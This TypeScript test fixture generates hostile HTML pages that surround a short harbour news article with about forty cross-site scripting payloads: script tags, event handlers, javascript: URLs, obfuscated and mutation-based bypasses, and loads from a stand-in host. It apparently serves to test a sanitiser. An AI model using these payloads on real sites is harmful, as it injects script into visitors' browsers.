/** What sets a mark where it is run. */
const RUN = 'globalThis.ranInTheTest=1;alert(1)';
/** Where a request would go; no test may see one. */
const OUT = 'https://elsewhere.example/';

const ATTACKS: readonly ((n: number) => string)[] = [
  (n) => `<script>${RUN}//${n}</script>`,
  (n) => `<script src="${OUT}${n}.js"></script>`,
  (n) => `<script type="module">import "${OUT}${n}";${RUN}</script>`,
  (n) => `<img src="${OUT}${n}.png" onerror="${RUN}">`,
  (n) => `<img srcset="${OUT}${n}.png 1x" onload="${RUN}">`,
  (n) => `<body onload="${RUN}//${n}">`,
  (n) => `<a href="javascript:${RUN}//${n}">go on</a>`,
  (n) => `<a href="java\tscript:${RUN}//${n}">go on</a>`,
  (n) => `<a href="&#106;avascript:${RUN}//${n}">go on</a>`,
  (n) => `<svg onload="${RUN}"><script>${RUN}//${n}</script></svg>`,
  (n) => `<svg><a xlink:href="javascript:${RUN}//${n}"><text>go on</text></a></svg>`,
  (n) => `<svg><foreignObject><img src=x onerror="${RUN}//${n}"></foreignObject></svg>`,
  (n) => `<svg><use href="${OUT}${n}.svg#x"></use><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}//${n}"></style></table></math>`,
  (n) => `<math href="javascript:${RUN}//${n}">go on</math>`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${RUN}//${n}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${OUT}${n}">`,
  (n) => `<style>@import "${OUT}${n}.css"; body{background:url(${OUT}${n})}</style>`,
  (n) => `<p style="background:url('${OUT}${n}');behavior:url(#x)" onclick="${RUN}"></p>`,
  (n) => `<link rel="stylesheet" href="${OUT}${n}.css"><link rel="canonical" href="javascript:${RUN}">`,
  (n) => `<iframe srcdoc="<script>parent.ranInTheTest=${n}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.ranInTheTest=${n}"></iframe>`,
  (n) => `<object data="${OUT}${n}.swf"></object><embed src="${OUT}${n}.swf">`,
  (n) =>
    `<template><template><script>${RUN}//${n}</script><img src=x onerror="${RUN}"></template></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror='${RUN}//${n}'>"></noscript>`,
  (n) =>
    `<form action="javascript:${RUN}//${n}"><button formaction="javascript:${RUN}">go on</button></form>`,
  (n) => `<details open ontoggle="${RUN}//${n}"><summary>more</summary></details>`,
  (n) =>
    `<video src="${OUT}${n}" autoplay onerror="${RUN}"><source src="${OUT}${n}" onerror="${RUN}"></video>`,
  (n) => `<input autofocus onfocus="${RUN}//${n}"><select autofocus onfocus="${RUN}"></select>`,
  (n) => `<base href="${OUT}${n}/"><img src="x.png" onerror="${RUN}">`,
  (n) =>
    `<script type="application/ld+json">{"@type":"NewsArticle","url":"javascript:${RUN}//${n}"}</script>`,
  (n) => `<x-a id="${n}" onmouseover="${RUN}"></x-a><slot onslotchange="${RUN}"></slot>`,
  (n) => `\u202e<p dir="rtl" id="${n}" onclick="${RUN}"></p>\u2066\u202d`,
  (n) => `<!--[if IE]><script>${RUN}//${n}</script><![endif]--><!--><img src=x onerror="${RUN}">-->`,
  (n) => `<textarea></textarea><title></title><xmp><img src=x onerror="${RUN}//${n}"></xmp>`,
  (n) => `${'<div>'.repeat(50 + (n % 100))}<img src=x id="${n}" onerror="${RUN}">`,
  (n) => `<![CDATA[<img src=x onerror="${RUN}//${n}">]]>`,
  (n) => `<table background="${OUT}${n}"><tr><td background="javascript:${RUN}"></td></tr></table>`,
  (n) => `<a ping="${OUT}${n}" href="data:text/html,<script>${RUN}</script>">go on</a>`,
  (n) => `<img src="x" alt="\u0000\u200f${n}" on\u0000error="${RUN}" onerror=${RUN}>`,
];

const ARTICLE = [
  'The harbour authority closed the old quay on Monday, after inspectors found three cracks in its western wall.',
  'Two ferries to the islands now leave from the fish market, half a mile to the east, and take longer.',
  'Nobody was hurt. A new wall would cost 4.5 million, and the council has to say whether it wants to pay.',
];

/** Returns pages with an article of three paragraphs and attacks round it, each another one. */
export function hostilePages(count: number): readonly string[] {
  return Array.from({ length: count }, (_, index) => {
    const one = attack(index, index);
    const other = attack(index + Math.floor(index / ATTACKS.length) + 1, index);
    const [head, ...others] = ARTICLE;
    const inHead = index % 3 === 0 ? one : '';
    const inside = index % 3 === 0 ? '' : one;
    return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The quay ${index}</title>${inHead}</head><body><article><h1>The quay ${index}</h1><p>${head}</p>${inside}${others.map((text) => `<p>${text}</p>`).join('')}</article>${other}</body></html>`;
  });
}

/** Returns an attack by its number; those of one round are written differently in the next. */
export function attack(at: number, number = at): string {
  return ATTACKS[at % ATTACKS.length]?.(number) ?? '';
}
